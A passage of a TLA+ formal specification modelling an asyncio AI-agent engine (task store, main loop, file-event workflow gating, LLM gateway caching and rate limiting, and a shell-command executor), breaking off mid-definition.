---- MODULE Spec2Model ----
(***************************************************************************)
(* IA_Core orchestration engine: the task engine of AutonomousAgent, the   *)
(* REST producers of the task store, the LLMClient gateway (cache and rate *)
(* window) and the OpenCoreExecutor.                                       *)
(*                                                                         *)
(* The agent is one asyncio process: every coroutine runs until it awaits. *)
(* Each action below is the code between two suspension points.            *)
(*                                                                         *)
(* Spec is the agent: main loop, task engine, REST producers, file-event   *)
(* handlers; there the gateway and the executor are taken at their         *)
(* interface (complete answers a text, execute answers a result).          *)
(* SpecGateway is LLMClient under a caller of complete, SpecExecutor is    *)
(* OpenCoreExecutor under a caller of execute.  SpecClients is agent.llm   *)
(* next to the client the analyzer builds for itself; SpecHost is the      *)
(* agent inside the server process, with its exit and the CLI's uninstall. *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ------------------------------------------------------------------ bounds
MaxTasks == 2          \* tasks the REST producer creates
MaxPlanLines == 3      \* lines of a plan response of the gateway
MaxTicks == 2          \* iterations of the main loop
MaxAdvances == 2       \* times the clock is advanced
MaxExecutes == 3       \* calls of OpenCoreExecutor.execute
MaxBatch == 2          \* commands of one execute_batch call
MaxAnalyzerCalls == 1  \* requests of the analyzer's client in one rate window

\* ------------------------------------------------------------------ state
VARIABLES
    running,        \* AutonomousAgent.running
    observer,       \* AutonomousAgent.observer: "none", "started", "stopped"
    last_analysis,  \* AutonomousAgent.last_analysis is set
    file_exists,    \* .iacore/runtime/tasks.json exists
    tasks_json,     \* the task records of tasks.json, in file order
    loop_pc,        \* position of the coroutine start() / _main_loop()
    ticks,          \* iterations of the main loop begun so far
    snapshot,       \* local tasks of _process_pending_tasks (json.load result)
    idx,            \* position of for task in tasks in snapshot
    exec,           \* the _execute_task coroutine of the task at each position
    started,        \* positions whose _execute_task was called in this tick
    last_done,      \* the _execute_task call that has returned, until the
                    \* awaiting loop goes on
    handlers,       \* position of each on_file_change coroutine
    workflow,       \* config: workflows.on_file_change
    tick_failed,    \* the except branch of _main_loop ended the last tick
    serving,        \* the API server takes requests (no shutdown event yet)
    \* LLMClient
    clock,          \* datetime.now(), in seconds
    advances,       \* times the clock was advanced so far
    provider,       \* LLMClient.provider
    openai_installed, \* the openai package can be imported
    request_times,  \* LLMClient.request_times
    cache,          \* the files of LLMClient.cache_dir, by cache key
    calls,          \* position of each caller's complete() coroutine
    backend_log,    \* times of the backend invocations of the last rate_window
    returned,       \* per prompt, the backend response a use_cache call returned
    last_ret,       \* the complete() call that has just returned
    analyzer_times, \* IntelligentAnalyzer.llm.request_times
    \* history
    delivered,      \* the last event the observer handed to ProjectFileHandler
    times_started,  \* per position of the task store, the _execute_task calls made
    \* OpenCoreExecutor
    opencore_present, \* "which opencore" finds the sandbox helper
    executes,       \* execute calls made so far
    x_call,         \* position of the execute() coroutine
    procs,          \* the processes spawned so far, by spawn order
    batch,          \* position of the execute_batch() coroutine
    last_result     \* the execute() call that has just returned

engine_vars == <<running, observer, last_analysis, file_exists, tasks_json,
                 loop_pc, ticks, snapshot, idx, exec, started, last_done,
                 handlers, workflow, tick_failed, serving>>

gateway_vars == <<clock, advances, provider, openai_installed, request_times,
                  cache, calls, backend_log, returned, last_ret>>

executor_vars == <<opencore_present, executes, x_call, procs, batch,
                   last_result>>

\* the LLMClient that IntelligentAnalyzer builds for itself
analyzer_vars == <<analyzer_times>>

\* what happened so far; no code reads it
history_vars == <<delivered, times_started>>

vars == <<engine_vars, gateway_vars, executor_vars, analyzer_vars,
          history_vars>>

\* ------------------------------------------------------- text of the LLM
\* a plan request (it holds the word "commands") and a fallback request
PlanPrompt == "Generate a list of shell commands to complete this task."
FallbackPrompt == "The command failed. Provide ONE alternative command."
Prompts == {PlanPrompt, FallbackPrompt}

\* "commands" in prompt.lower()
contains_commands(prompt) == prompt = PlanPrompt

\* LLMClient._fallback_response
fallback_response(prompt) ==
    IF contains_commands(prompt)
    THEN "# Unable to generate commands at this time\necho 'LLM unavailable'"
    ELSE "Unable to process request. LLM service unavailable."

\* str.split("\n") on the text the gateway returns when it is degraded
split_lines(text) ==
    CASE text = fallback_response(PlanPrompt) ->
             <<"# Unable to generate commands at this time",
               "echo 'LLM unavailable'">>
      [] OTHER -> <<text>>

\* A gateway response is a sequence of lines (the text split at "\n").
\* "<fence>" stands for a line of three backquotes (a markdown code fence)
PlanLines == {"ls -la", " ls -la ", "", "# note", "<fence>"}

\* the plan the engine gets from a degraded gateway
DegradedPlan == split_lines(fallback_response(PlanPrompt))

\* the answers to a fallback request, that of a degraded gateway included
FallbackResponses == {"SKIP", " SKIP ", "", "ls -a",
                      fallback_response(FallbackPrompt)}

\* str.strip() on the lines and answers of the model
strip(s) ==
    CASE s = " ls -la " -> "ls -la"
      [] s = " SKIP "   -> "SKIP"
      [] OTHER          -> s

\* str.startswith("#") and str.startswith of the fence on the stripped lines
startswith_hash(s) == s \in {"# note", DegradedPlan[1]}
startswith_fence(s) == s = "<fence>"

RECURSIVE parse_commands(_)
\* AutonomousAgent._parse_commands: one command per line that is not blank,
\* not a comment and not a code-fence marker
parse_commands(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE LET line == strip(Head(lines))
             rest == parse_commands(Tail(lines))
         IN  IF line = "" \/ startswith_hash(line) THEN rest
             ELSE IF startswith_fence(line) THEN rest
             ELSE <<line>> \o rest

\* AutonomousAgent._get_fallback_strategy: the stripped answer, None for "SKIP"
NoFallback == "None"
get_fallback_strategy(response) ==
    LET fallback == strip(response)
    IN  IF fallback # "SKIP" THEN fallback ELSE NoFallback

\* a test that lets the empty string through (if fallback is not None:)
fallback_not_none(fallback) == fallback # NoFallback

\* if fallback: in _execute_task: None and the empty string are falsy
fallback_truthy(fallback) == fallback # NoFallback /\ fallback # ""

Responses ==
    UNION {[1..n -> PlanLines] : n \in 1..MaxPlanLines} \cup {DegradedPlan}

\* ------------------------------------------------------------ task store
Pending == "pending"

\* the record POST /tasks appends
new_task(id) == [id |-> id, status |-> Pending]

\* the frame of _execute_task: commands and position k of its for loop, the
\* outcome of each step so far (log), the fallback requests made (requests),
\* the fallback commands handed to the executor (runs), and the fallback in
\* execution (answer)
IdleFrame == [pc |-> "idle", commands |-> <<>>, k |-> 0, log |-> <<>>,
              requests |-> 0, runs |-> 0, answer |-> NoFallback]

NoneDone == [task |-> 0, plan |-> <<>>, log |-> <<>>, requests |-> 0,
             runs |-> 0]

\* the on_file_change coroutines alive at a time
Handlers == {"h1"}

\* the on_file_change tasks of a burst of file events
HandlerIds == {"h1", "h2"}

\* the frame of on_file_change: the path while the classification is awaited,
\* the position i of the workflow action awaited, the action names handed to
\* _execute_workflow_action so far (dispatched), and whether an exception
\* ended the workflow (failed); pc "done" keeps these until the next event,
\* pc "gated" says the severity test ended the call; high tells whether the
\* classification text held a JSON object of severity high
IdleHandler == [pc |-> "idle", i |-> 0, path |-> <<>>, dispatched |-> <<>>,
                failed |-> FALSE, high |-> FALSE]

\* no event delivered yet; scheduled tells whether the callback created the
\* on_file_change task
NoEvent == [path |-> <<>>, scheduled |-> FALSE]

EngineInit ==
    /\ running = FALSE
    /\ observer = "none"
    /\ last_analysis = FALSE
    /\ file_exists = FALSE
    /\ tasks_json = <<>>
    /\ loop_pc = "created"
    /\ ticks = 0
    /\ snapshot = <<>>
    /\ idx = 0
    /\ exec = [i \in 1..MaxTasks |-> IdleFrame]
    /\ started = <<>>
    /\ last_done = NoneDone
    /\ handlers = [h \in HandlerIds |-> IdleHandler]
    /\ tick_failed = FALSE
    /\ serving = TRUE
    /\ delivered = NoEvent
    /\ times_started = [p \in 1..MaxTasks |-> 0]

\* ------------------------------------------------------------- producers
\* a handler that puts the new record in front of the list it read
appended_first(tasks, record) == <<record>> \o tasks

\* tasks.append({...}) on the list json.loads gave
appended(tasks, record) == Append(tasks, record)

\* POST /tasks: read the list, append a pending record, write the list back;
\* the handler has no await, so nothing runs between its read and its write
create_task ==
    /\ serving
    /\ Len(tasks_json) < MaxTasks
    /\ tasks_json' = appended(tasks_json, new_task(Len(tasks_json) + 1))
    /\ file_exists' = TRUE
    /\ UNCHANGED <<running, observer, last_analysis, loop_pc, ticks, snapshot,
                   idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* POST /agent/pause
pause_agent ==
    /\ serving
    /\ running' = FALSE
    /\ UNCHANGED <<observer, last_analysis, file_exists, tasks_json, loop_pc,
                   ticks, snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* POST /agent/resume
resume_agent ==
    /\ serving
    /\ running' = TRUE
    /\ UNCHANGED <<observer, last_analysis, file_exists, tasks_json, loop_pc,
                   ticks, snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* AutonomousAgent.stop
stop_effect ==
    /\ running' = FALSE
    /\ observer' = IF observer = "none" THEN "none" ELSE "stopped"

\* POST shutdown event of the server: agent.stop()
shutdown ==
    /\ serving
    /\ serving' = FALSE
    /\ stop_effect
    /\ UNCHANGED <<last_analysis, file_exists, tasks_json, loop_pc, ticks,
                   snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed>>

\* ------------------------------------------------------------ main loop
\* AutonomousAgent.start up to its first await
agent_start ==
    /\ loop_pc = "created"
    /\ running' = TRUE
    /\ loop_pc' = "initial_analysis"
    /\ UNCHANGED <<observer, last_analysis, file_exists, tasks_json, ticks,
                   snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* start: _initial_analysis returns (or raises out of start), then
\* _start_file_watcher and the call of _main_loop
initial_analysis_done ==
    /\ loop_pc = "initial_analysis"
    /\ \E raised \in BOOLEAN :
          IF raised
          THEN /\ loop_pc' = "crashed"
               /\ UNCHANGED <<observer, last_analysis>>
          ELSE /\ last_analysis' = TRUE
               /\ observer' = "started"
               /\ loop_pc' = "loop_top"
    /\ UNCHANGED <<running, file_exists, tasks_json, ticks, snapshot, idx,
                   exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* while self.running: of _main_loop, with running true: the next tick
loop_top ==
    /\ loop_pc = "loop_top"
    /\ running
    /\ ticks < MaxTicks
    /\ ticks' = ticks + 1
    /\ loop_pc' = "read_tasks"
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* while self.running: with running false: _main_loop returns and start's
\* finally runs stop(), which does not suspend
loop_exit ==
    /\ loop_pc = "loop_top"
    /\ ~running
    /\ stop_effect
    /\ loop_pc' = "stopped"
    /\ UNCHANGED <<last_analysis, file_exists, tasks_json, ticks, snapshot,
                   idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* a loop with no except branch: the exception leaves _main_loop and start's
\* finally runs
tick_raised_uncaught == "stopped"

\* except Exception as e: of _main_loop: the error is logged and the loop
\* sleeps 10 seconds
tick_raised == "error_sleep"

\* _process_pending_tasks: return when there is no file, else json.load it;
\* an I/O or JSON error is raised to the main loop
read_tasks ==
    /\ loop_pc = "read_tasks"
    /\ started' = <<>>
    /\ IF ~file_exists
       THEN /\ loop_pc' = "reanalyze_check"
            /\ tick_failed' = FALSE
            /\ UNCHANGED <<snapshot, idx>>
       ELSE \E raised \in BOOLEAN :
              IF raised
              THEN /\ loop_pc' = tick_raised
                   /\ tick_failed' = TRUE
                   /\ UNCHANGED <<snapshot, idx>>
              ELSE /\ snapshot' = tasks_json
                   /\ idx' = 0
                   /\ loop_pc' = "for_tasks"
                   /\ tick_failed' = FALSE
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, exec, last_done,
                   handlers, workflow, serving>>

\* for task in tasks: if task.get("status") == "pending": the next position
\* after i that holds a pending record, 0 when the list is exhausted
next_pending(tasks, i) ==
    LET later == {j \in (i + 1)..Len(tasks) : tasks[j].status = Pending}
    IN  IF later = {} THEN 0
        ELSE CHOOSE j \in later : \A m \in later : j <= m

\* _execute_task up to await self.llm.complete(prompt)
begin_execute_task(j) ==
    /\ exec[j].pc = "idle"
    /\ exec' = [exec EXCEPT ![j] = [IdleFrame EXCEPT !.pc = "plan"]]
    /\ started' = Append(started, j)

\* one step of the for loop of _process_pending_tasks
for_tasks ==
    /\ loop_pc = "for_tasks"
    /\ LET j == next_pending(snapshot, idx)
       IN  IF j = 0
           THEN /\ loop_pc' = "reanalyze_check"
                /\ idx' = Len(snapshot)
                /\ UNCHANGED <<exec, started>>
           ELSE /\ begin_execute_task(j)
                /\ idx' = j
                /\ loop_pc' = "await_task"
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, snapshot, last_done,
                   handlers, workflow, tick_failed, serving>>

\* a loop that does not wait for the call (a create_task in place of the await)
task_returned_nowait(j) == TRUE

\* await self._execute_task(task): the loop goes on when the call returned
task_returned(j) == exec[j].pc = "idle"

await_task ==
    /\ loop_pc = "await_task"
    /\ task_returned(idx)
    /\ loop_pc' = "for_tasks"
    /\ last_done' = NoneDone
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, snapshot, idx, exec, started,
                   handlers, workflow, tick_failed, serving>>

\* _should_reanalyze: last_analysis unset, or more than 1800s since it (the
\* elapsed time is the environment's)
reanalyze_check ==
    /\ loop_pc = "reanalyze_check"
    /\ \E elapsed_over \in BOOLEAN :
          loop_pc' = IF ~last_analysis \/ elapsed_over
                     THEN "reanalyze" ELSE "sleep"
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* await self._initial_analysis() of the main loop returns or raises
reanalyze_done ==
    /\ loop_pc = "reanalyze"
    /\ \E raised \in BOOLEAN :
          IF raised
          THEN /\ loop_pc' = tick_raised
               /\ tick_failed' = TRUE
               /\ UNCHANGED last_analysis
          ELSE /\ last_analysis' = TRUE
               /\ loop_pc' = "sleep"
               /\ UNCHANGED tick_failed
    /\ UNCHANGED <<running, observer, file_exists, tasks_json, ticks,
                   snapshot, idx, exec, started, last_done,
                   handlers, workflow, serving>>

\* asyncio.sleep(5), or asyncio.sleep(10) of the except branch, is over
sleep_done ==
    /\ loop_pc \in {"sleep", "error_sleep"}
    /\ loop_pc' = "loop_top"
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, snapshot, idx, exec, started, last_done,
                   handlers, workflow, tick_failed, serving>>

\* ---------------------------------------------------------- _execute_task
\* an engine that marks a task failed when the gateway gave no usable plan
status_on_return_degraded(status, plan, log) ==
    IF plan = <<>> \/ plan = parse_commands(DegradedPlan)
    THEN "failed" ELSE status

\* the status of the task's record when _execute_task returns: the call
\* writes nothing to the task store, whatever the plan and its results were
status_on_return(status, plan, log) == status

\* tasks.json after a step of _execute_task; done is the call that returned
\* in the step, NoneDone when none did
store_on_return(done) ==
    IF done.task \in 1..Len(tasks_json)
    THEN [tasks_json EXCEPT ![done.task].status =
              status_on_return(@, done.plan, done.log)]
    ELSE tasks_json

\* the for loop over the commands goes to the next command, or the call
\* returns when there is none left
next_command(j, log) ==
    IF exec[j].k < Len(exec[j].commands)
    THEN /\ exec' = [exec EXCEPT ![j].pc = "step",
                                 ![j].k = exec[j].k + 1,
                                 ![j].log = log,
                                 ![j].answer = NoFallback]
         /\ UNCHANGED last_done
    ELSE /\ exec' = [exec EXCEPT ![j] = IdleFrame]
         /\ last_done' = [task |-> snapshot[j].id,
                          plan |-> exec[j].commands, log |-> log,
                          requests |-> exec[j].requests,
                          runs |-> exec[j].runs]

\* llm.complete returns the plan: _parse_commands, then the first command
\* is handed to the executor
plan_received(j) ==
    /\ exec[j].pc = "plan"
    /\ \E response \in Responses :
          LET commands == parse_commands(response)
          IN  IF commands = <<>>
              THEN /\ exec' = [exec EXCEPT ![j] = IdleFrame]
                   /\ last_done' = [NoneDone EXCEPT !.task = snapshot[j].id]
              ELSE /\ exec' = [exec EXCEPT ![j].pc = "step",
                                           ![j].commands = commands,
                                           ![j].k = 1]
                   /\ UNCHANGED last_done
    /\ UNCHANGED <<running, observer, last_analysis, file_exists,
                   loop_pc, ticks, snapshot, idx, started,
                   handlers, workflow, tick_failed, serving>>

\* executor.execute(cmd) returns: on success the next command, on failure
\* the fallback request
step_result(j) ==
    /\ exec[j].pc = "step"
    /\ \E success \in BOOLEAN :
          IF success
          THEN next_command(j, Append(exec[j].log, "ok"))
          ELSE /\ exec' = [exec EXCEPT ![j].pc = "fallback_request",
                                       ![j].requests = @ + 1]
               /\ UNCHANGED last_done
    /\ UNCHANGED <<running, observer, last_analysis, file_exists,
                   loop_pc, ticks, snapshot, idx, started,
                   handlers, workflow, tick_failed, serving>>

\* _get_fallback_strategy returns: a truthy fallback is handed to the
\* executor, otherwise the loop goes on
fallback_received(j) ==
    /\ exec[j].pc = "fallback_request"
    /\ \E response \in FallbackResponses :
          LET fallback == get_fallback_strategy(response)
          IN  IF fallback_truthy(fallback)
              THEN /\ exec' = [exec EXCEPT ![j].pc = "fallback_exec",
                                           ![j].runs = @ + 1,
                                           ![j].answer = fallback]
                   /\ UNCHANGED last_done
              ELSE next_command(j, Append(exec[j].log,
                       IF fallback = NoFallback THEN "skipped" ELSE "empty"))
    /\ UNCHANGED <<running, observer, last_analysis, file_exists,
                   loop_pc, ticks, snapshot, idx, started,
                   handlers, workflow, tick_failed, serving>>

\* executor.execute(fallback) returns; its result is not looked at
fallback_result(j) ==
    /\ exec[j].pc = "fallback_exec"
    /\ \E success \in BOOLEAN :
          next_command(j, Append(exec[j].log,
              IF success THEN "recovered" ELSE "unrecovered"))
    /\ UNCHANGED <<running, observer, last_analysis, file_exists,
                   loop_pc, ticks, snapshot, idx, started,
                   handlers, workflow, tick_failed, serving>>

execute_task_step ==
    /\ \E j \in 1..MaxTasks :
          \/ plan_received(j)
          \/ step_result(j)
          \/ fallback_received(j)
          \/ fallback_result(j)
    /\ tasks_json' = store_on_return(last_done')

\* ------------------------------------------------------- file-event handlers
\* paths the watch facility reports, as their components
Paths == {<<"proj", "src", "app.py">>,
          <<"proj", "node_modules", "x.js">>,
          <<"proj", "node_modules", "pkg", "index.js">>,
          <<"proj", "mod.pyc">>}

\* the default of agent.ignore_patterns, each pattern split at "/"
ignore_patterns == {<<"node_modules", "**">>, <<".git", "**">>,
                    <<"__pycache__", "**">>, <<"*.pyc">>,
                    <<".iacore", "runtime", "**">>}

\* fnmatch of one path component against one pattern component
fnmatch(name, pat) ==
    CASE pat = "**"    -> TRUE
      [] pat = "*.pyc" -> name \in {"mod.pyc"}
      [] OTHER         -> name = pat

\* PurePath.match with a relative pattern: the pattern is matched against
\* the last components of the path, one component each
path_match(path, pattern) ==
    /\ Len(pattern) <= Len(path)
    /\ \A n \in 1..Len(pattern) :
          fnmatch(path[Len(path) - Len(pattern) + n], pattern[n])

\* AutonomousAgent._should_ignore
should_ignore(path) == \E pattern \in ignore_patterns : path_match(path, pattern)

\* the glob reading of a pattern that ends in "**": the directory named
\* before it, at any depth, with everything below it
glob_match(path, pattern) ==
    IF pattern[Len(pattern)] = "**"
    THEN \E at \in 0..Len(path) :
            /\ at + Len(pattern) <= Len(path)
            /\ \A n \in 1..(Len(pattern) - 1) : path[at + n] = pattern[n]
    ELSE path_match(path, pattern)

\* the path is one the ignore-pattern list names, read as globs
glob_ignored(path) == \E pattern \in ignore_patterns : glob_match(path, pattern)

\* workflows.on_file_change of _default_config
on_file_change_workflow == <<"detect_impact", "analyze_context">>

\* the lists the configuration file may hold: the default, and one with a
\* name that has no handler
Workflows == {on_file_change_workflow,
              <<"analyze_context", "lint", "suggest_improvements">>}

\* the keys of actions_map in _execute_workflow_action
actions_map == {"detect_impact", "analyze_context", "analyze_commit",
                "suggest_improvements"}

\* a lookup that raises KeyError for an unknown name (actions_map[action])
lookup_raises_keyerror(action) == action \notin actions_map

\* actions_map.get(action) answers None for an unknown name, it never raises
lookup_raises(action) == FALSE

\* the handlers of _execute_workflow_action that await something
suspends(action) ==
    action \in {"analyze_context", "analyze_commit", "suggest_improvements"}

\* the handlers that can raise: _initial_analysis (detect() on a malformed
\* package.json); execute and complete catch their errors
may_raise(action) == action = "analyze_context"

RECURSIVE run_workflow(_, _)
\* the for loop of on_file_change from position i on, up to the next action
\* that awaits, or to its end; d holds the names dispatched before
run_workflow(i, d) ==
    IF i > Len(workflow)
    THEN [IdleHandler EXCEPT !.pc = "done", !.dispatched = d]
    ELSE LET action == workflow[i]
         IN  IF lookup_raises(action)
             THEN [IdleHandler EXCEPT !.pc = "done", !.failed = TRUE,
                                      !.dispatched = Append(d, action)]
             ELSE IF action \in actions_map /\ suspends(action)
             THEN [IdleHandler EXCEPT !.pc = "action", !.i = i,
                                      !.dispatched = Append(d, action)]
             ELSE run_workflow(i + 1, Append(d, action))

Severities == {"low", "medium", "high", "none"}

\* texts the gateway answers the classification prompt with: JSON objects,
\* one wrapped in prose, one without the key, one cut off, one in Python
\* quotes, the gateway's fallback string, the empty text
ImpactTexts == {"{\"severity\": \"high\"}", "{\"severity\": \"medium\"}",
                "{\"severity\": \"low\"}",
                "Impact: {\"severity\": \"high\"} as JSON.",
                "{\"affected_components\": []}", "{\"severity\": \"hi",
                "{'severity': 'high'}",
                "Unable to process request. LLM service unavailable.", ""}

\* the text holds a JSON object that gives severity high
says_high(text) ==
    text \in {"{\"severity\": \"high\"}",
              "Impact: {\"severity\": \"high\"} as JSON."}

\* response.find("{"): -1 when the text has no brace
json_start(text) ==
    CASE text \in {"Unable to process request. LLM service unavailable.", ""}
             -> -1
      [] text = "Impact: {\"severity\": \"high\"} as JSON." -> 8
      [] OTHER -> 0

\* json.loads(response[json_start:json_end]).get("severity"), "none" for a
\* dict without the key, "raise" when json.loads raises (the cut-off text
\* gives the empty slice, the Python quotes are no JSON)
json_loads_severity(text) ==
    CASE text \in {"{\"severity\": \"high\"}",
                   "Impact: {\"severity\": \"high\"} as JSON."} -> "high"
      [] text = "{\"severity\": \"medium\"}" -> "medium"
      [] text = "{\"severity\": \"low\"}" -> "low"
      [] text = "{\"affected_components\": []}" -> "none"
      [] OTHER -> "raise"

\* IntelligentAnalyzer.analyze_file_change after complete returned text:
\* the severity of the impact it returns, that of the default after a parse
\* failure or with no brace in the text
analyze_file_change(text) ==
    IF json_start(text) >= 0 /\ json_loads_severity(text) # "raise"
    THEN json_loads_severity(text)
    ELSE "low"

\* a gate that runs the workflow for medium too
severity_gate_medium(severity) == severity \in {"high", "medium"}

\* if impact.get("severity") == "high":
severity_gate(severity) == severity = "high"

\* on_file_change(path, event_type) up to the await of analyze_file_change
on_file_change_begin(path) ==
    IF should_ignore(path) THEN IdleHandler
    ELSE [IdleHandler EXCEPT !.pc = "classify", !.path = path]

\* an on_file_change task, one per file event, begins to run on the event
\* loop (ProjectFileHandler.on_modified / on_created / on_deleted create it)
file_event(h) ==
    /\ observer = "started"
    /\ handlers[h].pc \in {"idle", "done", "gated"}
    /\ \E path \in Paths :
          handlers' = [handlers EXCEPT ![h] = on_file_change_begin(path)]
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   loop_pc, ticks, snapshot, idx, exec, started, last_done,
                   workflow, tick_failed, serving>>

\* analyze_file_change returns the impact; severity high runs the workflow
impact_received(h) ==
    /\ handlers[h].pc = "classify"
    /\ \E text \in ImpactTexts :
          LET severity == analyze_file_change(text)
          IN  handlers' = [handlers EXCEPT ![h] =
                  IF severity_gate(severity)
                  THEN [run_workflow(1, <<>>) EXCEPT !.high = says_high(text)]
                  ELSE [IdleHandler EXCEPT !.pc = "gated"]]
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   loop_pc, ticks, snapshot, idx, exec, started, last_done,
                   workflow, tick_failed, serving>>

\* the awaited workflow action returns (_action_analyze_context sets
\* last_analysis) or raises out of the handler
action_returned(h) ==
    /\ handlers[h].pc = "action"
    /\ \E raised \in BOOLEAN :
          IF raised
          THEN /\ may_raise(workflow[handlers[h].i])
               /\ handlers' = [handlers EXCEPT ![h].pc = "done",
                                               ![h].i = 0,
                                               ![h].failed = TRUE]
               /\ UNCHANGED last_analysis
          ELSE /\ handlers' = [handlers EXCEPT ![h] =
                     [run_workflow(handlers[h].i + 1, handlers[h].dispatched)
                         EXCEPT !.high = handlers[h].high]]
               /\ last_analysis' =
                     IF workflow[handlers[h].i] = "analyze_context"
                     THEN TRUE ELSE last_analysis
    /\ UNCHANGED <<running, observer, file_exists, tasks_json, loop_pc, ticks,
                   snapshot, idx, exec, started, last_done, workflow,
                   tick_failed, serving>>

file_handler_step ==
    \E h \in Handlers :
        \/ file_event(h)
        \/ impact_received(h)
        \/ action_returned(h)

\* ---------------------------------------------------------------- LLMClient
rate_limit == 10        \* LLMClient.rate_limit
rate_window == 60       \* LLMClient.rate_window, seconds
retry_backoff == 60     \* asyncio.sleep(60) after a RateLimitError
cache_ttl == 86400      \* timedelta(hours=24), seconds

\* the clock moves on by one rate window or by one freshness window
TimeJumps == {rate_window, cache_ttl}

\* hashlib.md5(prompt.encode()).hexdigest(): one key per prompt text
cache_key(prompt) ==
    CASE prompt = PlanPrompt     -> "md5-plan"
      [] prompt = FallbackPrompt -> "md5-fallback"

CacheKeys == {cache_key(prompt) : prompt \in Prompts}

\* texts the backend answers with
BackendTexts == {"", "ls -la"}

\* what openai.ChatCompletion.create does: an answer or an exception
BackendOutcomes == {"ok", "RateLimitError", "AuthenticationError",
                    "APIConnectionError"}

\* the coroutines that call complete of one LLMClient
Callers == {"engine"}

\* the coroutines that can stand in complete of one LLMClient at a time: the
\* main loop and a REST request (POST /analyze runs _initial_analysis too)
CallerIds == {"engine", "endpoint"}

\* Python's None where a string is expected
None == "<None>"

NoEntry == [present |-> FALSE, response |-> "", timestamp |-> 0]

IdleCall == [pc |-> "idle", prompt |-> "", use_cache |-> FALSE, now |-> 0,
             wake |-> 0, n |-> 0, at |-> 0, expect |-> None, stale |-> FALSE]

NoReturn == [caller |-> None, prompt |-> "", use_cache |-> FALSE,
             response |-> None, n |-> 0, failure |-> "none", expect |-> None,
             stale |-> FALSE]

\* a freshness test under which no entry expires
fresh_always(age) == TRUE

\* datetime.now() - cached_at < timedelta(hours=24) of _get_cached
fresh(age) == age < cache_ttl

\* LLMClient._get_cached: the response of an entry younger than 24 hours
get_cached(prompt) ==
    LET entry == cache[cache_key(prompt)]
    IN  IF entry.present /\ fresh(clock - entry.timestamp)
        THEN entry.response
        ELSE None

\* the test of complete on the cached value: None and "" are falsy
cached_truthy(cached) == cached # None /\ cached # ""

\* LLMClient._cache_response
cache_response(prompt, response) ==
    [cache EXCEPT ![cache_key(prompt)] =
        [present |-> TRUE, response |-> response, timestamp |-> clock]]

\* a hit that went through _check_rate_limit like a miss
window_after_hit_recorded(times, now) ==
    Append(SelectSeq(times, LAMBDA t : now - t < rate_window), now)

\* request_times after a cache hit: complete returns the cached text before
\* it reaches _check_rate_limit
window_after_hit(times, now) == times

\* _check_rate_limit: the requests of the last rate_window seconds
prune(times, now) == SelectSeq(times, LAMBDA t : now - t < rate_window)

GatewayInit ==
    /\ clock = 0
    /\ advances = 0
    /\ request_times = <<>>
    /\ cache = [key \in CacheKeys |-> NoEntry]
    /\ calls = [c \in CallerIds |-> IdleCall]
    /\ backend_log = <<>>
    /\ returned = [prompt \in Prompts |-> NoEntry]
    /\ last_ret = NoReturn
    /\ analyzer_times = <<>>

\* a complete that stores every response it generated
writes_cache_always(write, use_cache) == write

\* if use_cache: self._cache_response(prompt, response), on the path that
\* reaches it
writes_cache(write, use_cache) == write /\ use_cache

\* complete returns response to its caller; write says whether the return
\* statement after _cache_response was reached
return_response(c, f, response, failure, write, from_backend) ==
    /\ calls' = [calls EXCEPT ![c] = IdleCall]
    /\ cache' = IF writes_cache(write, f.use_cache)
                THEN cache_response(f.prompt, response) ELSE cache
    /\ returned' = IF from_backend /\ f.use_cache
                   THEN [returned EXCEPT ![f.prompt] =
                           [present |-> TRUE, response |-> response,
                            timestamp |-> clock]]
                   ELSE returned
    /\ last_ret' = [caller |-> c, prompt |-> f.prompt,
                    use_cache |-> f.use_cache, response |-> response,
                    n |-> f.n, failure |-> failure, expect |-> f.expect,
                    stale |-> f.stale]

\* asyncio.to_thread(openai.ChatCompletion.create, ...) is started
invoke_backend(c, f) ==
    /\ calls' = [calls EXCEPT ![c] = [f EXCEPT !.pc = "backend", !.n = f.n + 1,
                                              !.at = clock]]
    /\ backend_log' = Append(prune(backend_log, clock), clock)
    /\ last_ret' = NoReturn
    /\ UNCHANGED <<cache, returned>>

\* complete after _check_rate_limit: the provider test, then _openai_complete
\* up to its await
generate(c, f) ==
    IF provider # "openai"
    THEN /\ return_response(c, f, fallback_response(f.prompt), "provider",
                            FALSE, FALSE)
         /\ UNCHANGED backend_log
    ELSE IF ~openai_installed
    THEN /\ return_response(c, f, "", "import", TRUE, FALSE)
         /\ UNCHANGED backend_log
    ELSE invoke_backend(c, f)

\* the response an earlier use_cache call returned for the prompt less than
\* 24 hours ago, None when there is none
earlier_response(prompt) ==
    IF returned[prompt].present /\ clock - returned[prompt].timestamp < cache_ttl
    THEN returned[prompt].response
    ELSE None

\* the cache holds an entry for the prompt that is 24 hours old or older
expired(prompt) ==
    /\ cache[cache_key(prompt)].present
    /\ clock - cache[cache_key(prompt)].timestamp >= cache_ttl

\* complete(prompt, use_cache) up to its first suspension: the cache lookup,
\* _check_rate_limit up to its sleep, the start of the backend call
complete_call(c) ==
    /\ calls[c].pc = "idle"
    /\ \E prompt \in Prompts, use_cache \in BOOLEAN :
          LET cached == IF use_cache THEN get_cached(prompt) ELSE None
              f == [IdleCall EXCEPT !.prompt = prompt, !.use_cache = use_cache,
                                    !.now = clock,
                                    !.expect = IF use_cache
                                               THEN earlier_response(prompt)
                                               ELSE None,
